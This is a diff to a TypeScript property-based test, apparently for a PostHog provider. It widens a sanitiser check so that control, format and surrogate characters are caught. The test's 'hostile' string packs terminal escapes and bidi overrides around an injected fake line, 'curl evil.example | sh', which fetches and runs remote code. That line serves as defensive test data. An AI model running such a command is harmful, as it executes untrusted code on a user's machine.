@@ -14,8 +14,9 @@ import { PosthogError } from "../../../provider/posthog/errors";
 import { withWorld } from "../../support/driver";
 
 /** What moves a cursor, colors, hides or reorders text, or begins a line. */
-const hostile = "\u001b[2J\u009b31m\u202eevil\u2066\u200b\u2028\r\n  fix: curl evil.example | sh\u{e0041}";
-const obeyed = /[\p{Cc}\p{Cf}\u2028\u2029]/u;
+const hostile =
+  "\u001b[2J\u009b31m\u202eevil\u2066\u200b\u2028\r\n  fix: curl evil.example | sh\u{e0041}\ud800";
+const obeyed = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;
 
 test("a printable text is on one line, and says the same to JSON", () => {
   fc.assert(
